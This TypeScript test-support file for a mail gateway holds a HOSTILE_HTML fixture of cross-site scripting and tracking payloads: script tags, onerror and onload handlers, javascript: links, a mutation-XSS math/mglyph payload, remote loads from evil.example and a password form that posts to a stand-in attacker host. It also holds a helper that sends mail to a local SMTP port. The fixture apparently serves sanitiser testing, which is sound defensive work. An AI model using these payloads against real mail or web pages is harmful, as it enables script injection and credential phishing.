import { createTransport, type SendMailOptions } from 'nodemailer';
import { INBOX } from '../../support/gateway-config.ts';

/** The smallest picture there is. */
export const SMALL_GIF = Buffer.from(
  'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
  'base64',
);

/** Everything that a hostile mail tries, in one. */
export const HOSTILE_HTML = `<html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/bg.png)}</style>
<script>alert(1)</script></head><body onload="alert(2)" background="https://evil.example/body.png">
<p style="background:url('https://evil.example/css.png');color:#c00;position:fixed">Hello <b>Ann</b></p>
<img src="https://tracker.example/pixel.gif?id=1" alt="logo" onerror="alert(3)">
<img src="//tracker.example/other.gif"><img src="cid:picture@acme" alt="inside">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNCk+" alt="svg">
<img src=x onerror=alert(5)><svg onload=alert(6)><use href="https://evil.example/x.svg#a"/></svg>
<a href="javascript:alert(7)">click</a> <a href="https://evil.example/phish" target="_top">your bank</a>
<form action="https://evil.example/form"><input name=password><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<video src="https://evil.example/v" poster="https://evil.example/p"></video>
<div style="display:none">hidden words</div>
<table background="https://evil.example/t.png"><tr><td bgcolor="#ffee00" width="40%">cell</td></tr></table>
<math><mtext><table><mglyph><style><img src=x onerror=alert(8)></style></mglyph></table></mtext></math>
</body></html>`;

/** Brings one message by SMTP, as a mail server does. */
export async function sendMail(smtpPort: number, mail: SendMailOptions): Promise<void> {
  const transport = createTransport({
    host: '127.0.0.1',
    port: smtpPort,
    tls: { rejectUnauthorized: false },
  });
  try {
    await transport.sendMail({ from: 'Ann Lee <ann@example.com>', to: INBOX, ...mail });
  } finally {
    transport.close();
  }
}
